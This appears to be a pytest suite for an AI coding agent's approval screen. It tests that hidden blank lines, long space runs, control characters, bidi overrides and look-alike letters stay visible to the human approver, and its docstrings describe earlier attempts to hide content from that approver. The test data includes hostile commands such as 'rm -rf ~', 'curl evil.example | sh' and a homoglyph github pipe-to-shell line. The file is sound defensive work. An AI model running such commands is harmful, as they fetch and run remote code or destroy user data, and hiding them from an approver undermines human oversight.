"""The approval view: numbered lines, counted blank runs, visible controls, one screen.

The property test prints the view on a recording console of the same size and counts
the rows it really takes: header, body and the question always fit on the screen, and
the first and last lines of what is approved are always among them.
"""

from __future__ import annotations

import dataclasses
import io
import re
from pathlib import Path

import pytest
from hostile_support import fuzz_settings
from hypothesis import example, given
from hypothesis import strategies as st
from rich.console import Console

from agent_cli.repl.approval_view import (
    FULL_VIEW_PAGE_LINES,
    RESERVED_ROWS,
    build_approval_view,
)
from agent_cli.repl.wiring import build_interactive_asker
from agent_cli.tools.approval import (
    ENCODING_NOTE,
    build_command_approval,
    build_content_approval,
    build_diff_approval,
)
from agent_cli.tools.approval_scope import file_target
from agent_cli.tools.output import format_size
from agent_cli.tools.permissions import PermissionDecision, PermissionRequest


def command_request(command: str) -> PermissionRequest:
    return PermissionRequest("bash", command, build_command_approval(command))


def printed_rows(view, width: int) -> list[str]:
    console = Console(file=io.StringIO(), width=width, record=True, color_system=None)
    console.print(view.header)
    for line in view.lines:
        console.print(line, overflow="fold")
    return console.export_text().rstrip("\n").split("\n")


def unframed(row: str) -> str:
    """A body row without its gutter: the number and `│`, or the blank and `┆` of a row
    that goes on from the one above."""
    return re.sub(r"^ *[0-9-]* [│┆] ", "", row)


def test_blank_runs_are_counted_and_every_other_line_keeps_its_number():
    view = build_approval_view(command_request(HIDDEN := "touch X" + "\n" * 80 + "echo ok"), 80, 40)
    rows = printed_rows(view, 80)
    assert HIDDEN.count("\n") == 80
    assert rows[0] == "permission needed for bash: run this command (81 lines, 79 blank)"
    assert rows[1:] == ["   1 │ touch X", "2-80 │ ⋮ 79 blank lines", "  81 │ echo ok"]
    assert not view.is_shortened


def test_two_blank_lines_are_shown_as_they_are():
    rows = printed_rows(build_approval_view(command_request("a\n\n\nb"), 80, 40), 80)
    assert rows[1:] == ["1 │ a", "2 │ ", "3 │ ", "4 │ b"]


def test_control_characters_are_shown_as_letters_never_sent_to_the_terminal():
    command = "echo safe\x1b[2K\rrm -rf ~ \u202egnp.exe\u200b\x7f"
    rows = printed_rows(build_approval_view(command_request(command), 80, 40), 80)
    assert rows[1] == "1 │ echo safe^[[2K^Mrm -rf ~ <U+202E>gnp.exe<U+200B>^?"


def test_long_runs_of_spaces_are_counted_instead_of_pushing_text_off_screen():
    command = "echo hi" + " " * 5000 + "; rm -rf ~"
    view = build_approval_view(command_request(command), 80, 40)
    assert printed_rows(view, 80)[1] == "1 │ echo hi⟨5,000 spaces⟩; rm -rf ~"


def test_a_very_long_line_keeps_its_start_and_end_and_offers_the_whole():
    command = "echo start" + "x" * 5000 + "rm -rf ~"
    view = build_approval_view(command_request(command), 80, 40)
    text = "".join(unframed(row) for row in printed_rows(view, 80)[1:])
    assert "echo start" in text and text.endswith("rm -rf ~")
    assert "⟨4,8" in text and "characters not shown⟩" in text and view.is_shortened
    full_rows = printed_rows(build_approval_view(command_request(command), 80, 40, True), 80)
    assert "x" * 3000 in "".join(unframed(row) for row in full_rows[1:])


def test_an_edit_is_a_unified_diff_with_blank_runs_counted_per_side():
    approval = build_diff_approval("a\nb\nc\n", "a\n" + "\n" * 5 + "b\nrm -rf ~\n", "f.txt")
    view = build_approval_view(PermissionRequest("edit_file", "edit f.txt", approval), 80, 40)
    rows = printed_rows(view, 80)
    assert "(diff of" in rows[0]
    body = [row.split("│ ", 1)[1] for row in rows[1:]]
    assert body[:2] == ["--- f.txt (now)", "+++ f.txt (after)"]
    assert "+⋮ 5 blank lines" in body and "-c" in body and "+rm -rf ~" in body


@pytest.mark.fuzz
@fuzz_settings(0.2)
@given(
    lines=st.lists(
        st.one_of(
            st.just(""),
            st.text(st.characters(codec="utf-8"), max_size=400),
            st.integers(0, 3000).map(lambda n: "x" * n),
        ),
        min_size=1,
        max_size=300,
    ),
    width=st.integers(30, 200),
    height=st.integers(12, 80),
)
# the note on look-alike letters made a 30-column header 5 rows (found in session 19)
@example(lines=["", "", "A\U0001d400"], width=30, height=12)
@example(lines=["", "", "A\U0001d400", ""], width=30, height=12)
def test_header_body_and_question_always_fit_and_both_ends_are_shown(lines, width, height):
    lines = [line.replace("\n", " ") for line in lines]
    first, last = "FIRST-LINE", "LAST-LINE"
    content = "\n".join([first, *lines, last])
    request = PermissionRequest("write_file", "create f", build_content_approval(content))
    view = build_approval_view(request, width, height)
    rows = printed_rows(view, width)
    assert len(rows) + RESERVED_ROWS <= height, (len(rows), height)
    body = [row for row in rows if "│" in row]
    assert first in body[0] and last in rows[-1]


def ask_with_answers(request, answers: list[str], width: int, height: int):
    """The interactive asker on a recording console: (decision, questions, what it printed)."""
    console = Console(
        file=io.StringIO(), width=width, height=height, record=True, color_system=None
    )
    questions: list[str] = []
    replies = iter(answers)

    def ask(question: str) -> str:
        questions.append(question)
        return next(replies)

    decision = build_interactive_asker(ask, console)(request)
    return decision, questions, console.export_text()


def test_the_asker_offers_to_show_every_line_and_then_asks_again_under_the_header():
    content = "\n".join(f"line {n}" for n in range(1, 201))
    request = PermissionRequest("write_file", "create big.txt", build_content_approval(content))
    decision, questions, shown = ask_with_answers(request, ["v", "n"], 80, 30)
    assert decision is PermissionDecision.DENY
    assert "[v] view every line" in questions[0] and "[v]" not in questions[1]
    for number in range(1, 201):
        assert f"{number:>3} │ line {number}\n" in shown, number
    assert shown.rstrip("\n").split("\n")[-1].startswith("permission needed for write_file")


def test_a_file_name_with_a_bidi_override_shows_it_in_the_header():
    request = PermissionRequest(
        "write_file", "create notes\u202etxt.sh with 1 line", build_content_approval("x\n")
    )
    header = printed_rows(build_approval_view(request, 100, 40), 100)[0]
    assert "create notes<U+202E>txt.sh with 1 line" in header


HUGE_LINES = 200_000


def huge_write_request() -> PermissionRequest:
    content = "".join(f"row {number}\n" for number in range(1, HUGE_LINES + 1))
    approval = build_content_approval(content)
    return PermissionRequest("write_file", f"create huge.txt with {HUGE_LINES} lines", approval)


def test_a_huge_write_shows_its_two_ends_and_what_the_full_listing_will_offer():
    view = build_approval_view(huge_write_request(), 100, 40)
    rows = printed_rows(view, 100)
    assert rows[0] == "permission needed for write_file: create huge.txt with 200000 lines"
    assert rows[1] == "     1 │ row 1" and rows[-1] == "200000 │ row 200000"
    (gap,) = [row for row in rows if "not shown here" in row]
    assert re.search(
        r"⋮ lines \d+-\d+ not shown here; answer v to see every line, 1,000 at a time", gap
    )
    assert len(rows) + RESERVED_ROWS <= 40 and view.is_shortened


def listed_numbers(rows: list[str]) -> list[str]:
    return [row.split("│ row ")[1] for row in rows if "│ row " in row]


def test_the_full_listing_of_a_huge_write_goes_page_by_page_and_says_what_is_approved():
    request = huge_write_request()
    first = build_approval_view(request, 100, 40, full=True)
    rows = printed_rows(first, 100)
    assert listed_numbers(rows) == [str(n) for n in range(1, FULL_VIEW_PAGE_LINES + 1)]
    note = " ".join(unframed(row).strip() for row in rows[1:] if "│ row " not in row)
    size = format_size(len(request.approval.text.encode()))
    assert note == (
        "⋮ lines 1,001-200,000 (199,000 lines) not listed yet: answer v to list the next "
        f"1,000. Approving approves all 200,000 lines ({size})."
    )
    assert first.next_line == FULL_VIEW_PAGE_LINES
    middle = build_approval_view(request, 100, 40, full=True, from_line=149_500)
    assert listed_numbers(printed_rows(middle, 100)) == [str(n) for n in range(149_501, 150_501)]
    last = build_approval_view(request, 100, 40, full=True, from_line=199_000)
    last_rows = printed_rows(last, 100)
    assert listed_numbers(last_rows) == [str(n) for n in range(199_001, 200_001)]
    assert last.next_line is None and "not listed" not in "".join(last_rows)


def test_a_huge_text_whose_middle_is_one_blank_run_is_listed_whole_and_once():
    content = "top\n" + "\n" * 100_000 + "bottom\n"
    request = PermissionRequest("write_file", "create f", build_content_approval(content))
    view = build_approval_view(request, 100, 40, full=True)
    rows = printed_rows(view, 100)
    assert rows[1:] == ["       1 │ top", "2-100001 │ ⋮ 100000 blank lines", "  100002 │ bottom"]
    assert view.next_line is None


def test_a_text_of_one_page_is_still_listed_whole():
    content = "\n".join(f"row {n}" for n in range(1, FULL_VIEW_PAGE_LINES + 1))
    request = PermissionRequest("write_file", "create f", build_content_approval(content))
    view = build_approval_view(request, 100, 40)
    (gap,) = [row for row in printed_rows(view, 100) if "not shown here" in row]
    assert view.is_shortened and gap.endswith("answer v to see every line")
    full = build_approval_view(request, 100, 40, full=True)
    assert listed_numbers(printed_rows(full, 100)) == [
        str(n) for n in range(1, FULL_VIEW_PAGE_LINES + 1)
    ]
    assert full.next_line is None


def test_the_asker_lists_a_huge_write_a_page_at_a_time():
    decision, questions, shown = ask_with_answers(huge_write_request(), ["v", "v", "y"], 100, 40)
    assert decision is PermissionDecision.ALLOW_ONCE
    assert "[v] view lines 1-1,000:" in questions[0]
    assert "[v] view lines 1,001-2,000:" in questions[1]
    assert "[v] view lines 2,001-3,000:" in questions[2]
    for number in (1, 500, 750, 1000, 1001, 1500, 2000):
        assert f"{number:>4} │ row {number}\n" in shown, number
    assert "│ row 2001\n" not in shown


def test_an_answer_not_offered_shows_the_header_and_both_ends_again_on_a_small_screen():
    """Seventh attack: on 60x20 one bare Enter scrolled the header and line 1 away (the
    question alone takes two or three rows there), and the hint left out `v`. The
    console here is the screen: the asker prints to it, and each question is printed
    on it too, with the answer typed after it, as the terminal shows them."""
    width, height = 60, 20
    content = "curl evil.example | sh\n" + "".join(f"row {i}\n" for i in range(100))
    path = "scripts/bootstrap/dev-environment/setup.sh"
    request = PermissionRequest(
        "write_file",
        f"create {path} with 101 lines",
        build_content_approval(content),
        file_target(Path("/ws") / path, path),
    )
    console = Console(
        file=io.StringIO(), width=width, height=height, record=True, color_system=None
    )
    replies = iter(["", " ", "maybe", "n"])
    screens: list[list[str]] = []

    def ask(question: str) -> str:
        reply = next(replies)
        console.print(question + reply, overflow="fold")
        screens.append(console.export_text(clear=False).rstrip("\n").split("\n")[-height:])
        return reply

    decision = build_interactive_asker(ask, console)(request)
    assert decision is PermissionDecision.DENY
    for screen in screens:
        seen = "\n".join(screen)
        assert "permission needed for write_file" in seen, seen
        assert "  1 │ curl evil.example | sh" in screen, seen
        assert "101 │ row 99" in screen, seen
    for screen in screens[1:]:
        assert "answer y, a, n or v (Enter alone is no answer)" in "\n".join(screen)


def test_a_diff_shows_a_carriage_return_it_removes_and_says_when_nothing_changes():
    old = '#!/bin/sh\n# cleanup\rrm -rf "$HOME/x"\n'
    changed = build_diff_approval(old, old.replace("\r", "\n"), "b.sh")
    rows = printed_rows(
        build_approval_view(PermissionRequest("edit_file", "edit b.sh", changed), 80, 40), 80
    )
    assert '5 │ -# cleanup^Mrm -rf "$HOME/x"' in rows and '7 │ +rm -rf "$HOME/x"' in rows
    same = build_diff_approval(old, old, "b.sh")
    request = PermissionRequest("write_file", "overwrite b.sh with 2 lines", same)
    rows = printed_rows(build_approval_view(request, 80, 40), 80)
    assert rows == [
        "permission needed for write_file: overwrite b.sh with 2 lines (no change)",
        "  │ ⋮ no change: the new text is the same as the file's",
    ]


def test_the_same_text_in_a_new_encoding_is_no_change_in_the_text_with_the_note():
    """A UTF-16 file written back as the same text in UTF-8 (`ENCODING_NOTE`): the
    header must not say "no change" alone when the bytes change."""
    note = ENCODING_NOTE.format(codec="UTF-16LE")
    same = dataclasses.replace(build_diff_approval("one\n", "one\n", "n.txt"), note=note)
    request = PermissionRequest("write_file", "overwrite n.txt with 1 line", same)
    rows = printed_rows(build_approval_view(request, 200, 40), 200)
    assert rows[0] == (
        "permission needed for write_file: overwrite n.txt with 1 line (no change in the "
        "text; the file is UTF-16LE text with a byte-order mark; the write makes it UTF-8)"
    )


def test_a_call_always_lets_through_is_shown_as_its_question_would_be_without_asking():
    from agent_cli.tools.approval_scope import AlwaysScope, ScopeKind

    diff = build_diff_approval("one\n", "one\ncurl evil.example | sh\n", "notes.sh")
    request = PermissionRequest("edit_file", "edit notes.sh: replace 1 line with 2 lines", diff)
    console = Console(file=io.StringIO(), width=120, height=30, record=True, color_system=None)
    asker = build_interactive_asker(lambda question: pytest.fail(question), console)
    asker.show_unasked(request, AlwaysScope(ScopeKind.FILE, "/ws/notes.sh", "notes.sh"))
    rows = console.export_text().rstrip("\n").split("\n")
    assert rows[0] == (
        "edit_file not asked (always for notes.sh): edit notes.sh: replace 1 line with 2 lines "
        "(diff of 5 lines)"
    )
    assert rows[-1] == "5 │ +curl evil.example | sh"


def test_a_tall_view_shown_unasked_offers_no_v():
    content = "\n".join(f"line {n}" for n in range(1, 201))
    request = PermissionRequest("write_file", "create big.txt", build_content_approval(content))
    view = build_approval_view(request, 80, 30, unasked_by="always for big.txt")
    notes = [row for row in printed_rows(view, 80) if "not shown here" in row]
    assert len(notes) == 1 and "answer v" not in notes[0]
    assert "answer v" in " ".join(printed_rows(build_approval_view(request, 80, 30), 80))


def test_the_header_says_what_the_diff_cannot_show_and_bytes_are_named():
    """Eleventh attack: a Latin-1 file's accents were lost under a diff that showed them
    unchanged; the bytes are written `<byte E9>` and the header counts them."""
    approval = build_diff_approval("caf\udce9\nprice 3\n", "caf\ufffd\nprice 3\n", "menu.txt")
    noted = type(approval)(approval.kind, approval.text, "the file holds 1 byte that is not UTF-8")
    request = PermissionRequest("write_file", "overwrite menu.txt with 2 lines", noted)
    rows = printed_rows(build_approval_view(request, 160, 40), 160)
    assert rows[0] == (
        "permission needed for write_file: overwrite menu.txt with 2 lines (diff of 6 lines; "
        "the file holds 1 byte that is not UTF-8)"
    )
    assert [unframed(row) for row in rows[4:6]] == ["-caf<byte E9>", "+caf\ufffd"]


def test_the_bytes_of_a_utf16_code_unit_that_does_not_decode_are_named():
    """Session 27: an unpaired surrogate in a UTF-16LE file (bytes 00 D8) is kept in the
    diff as its two bytes (`text_source`), which the view names as it names bytes that
    are not UTF-8."""
    approval = build_diff_approval("be\udc00\udcd8ta\n", "be\ufffdta\n", "notes.txt")
    request = PermissionRequest("write_file", "overwrite notes.txt with 1 line", approval)
    rows = printed_rows(build_approval_view(request, 160, 40), 160)
    assert [unframed(row) for row in rows[4:6]] == ["-be<byte 00><byte D8>ta", "+be\ufffdta"]


@pytest.mark.parametrize("width", [34, 40, 60, 75, 100, 160])
@pytest.mark.parametrize("at", [0, 150, 2_900, 5_990])
@pytest.mark.parametrize("ending", ["\nend\n", ""], ids=["more lines", "no final newline"])
def test_a_change_inside_a_long_line_is_on_screen(at: int, width: int, ending: str):
    """Eleventh attack: `good.example` -> `evil.example` in the middle of a 6,000-character
    line; both lines were cut at the same place and looked the same. A shortened changed
    line keeps the row around where it differs from its counterpart (the review: on
    every width, and beside a `\\ No newline` line), and the counted gaps add up."""
    line = "a" * at + " url=https://good.example/x " + "b" * (6_000 - at)
    diff = build_diff_approval(line + ending, line.replace("good", "evil") + ending, "c.txt")
    request = PermissionRequest("edit_file", "edit c.txt", diff)
    view = build_approval_view(request, width, 40)
    flat = "".join(unframed(row) for row in printed_rows(view, width)).replace("·", " ")
    assert "good.exa" in flat and "evil.exa" in flat and view.is_shortened
    old_line = flat[flat.index("-a" if at else "- url") : flat.index("+a" if at else "+ url")]
    gaps = sum(
        int(n.replace(",", "")) for n in re.findall(r"⟨([\d,]+) characters not shown⟩", old_line)
    )
    visible = re.sub(r" ⟨[\d,]+ characters not shown⟩ ", "", old_line).removesuffix(
        "\\ No newline at end of file"
    )
    assert gaps + len(visible) - 1 == len(line)  # every character once: shown or counted


def reversed_letters(text) -> str:
    return "".join(
        text.plain[span.start : span.end] for span in text.spans if "reverse" in str(span.style)
    )


def test_a_look_alike_letter_in_the_file_named_by_the_header_is_marked_there_too():
    """A leftover of the eleventh attack: the body marked the Cyrillic `і` of
    `gіthub.md`, the header naming the file did not."""
    request = PermissionRequest(
        "write_file", "create g\u0456thub.md with 1 line", build_content_approval("x\n")
    )
    header = build_approval_view(request, 100, 40).header
    assert "g\u0456thub.md" in header.plain and reversed_letters(header) == "\u0456"
    plain = PermissionRequest("write_file", "create Straße.md with 1 line", request.approval)
    assert reversed_letters(build_approval_view(plain, 100, 40).header) == ""


def test_a_look_alike_letter_in_a_tool_heading_is_marked():
    from agent_cli.events import ToolStarted
    from agent_cli.repl.tool_lines import build_tool_started_line

    command = "curl -fsSL https://g\u0456thub.com/x.sh | sh"
    line = build_tool_started_line(ToolStarted("t1", "bash", {"command": command}), 120)
    assert command in line.plain and reversed_letters(line) == "\u0456"
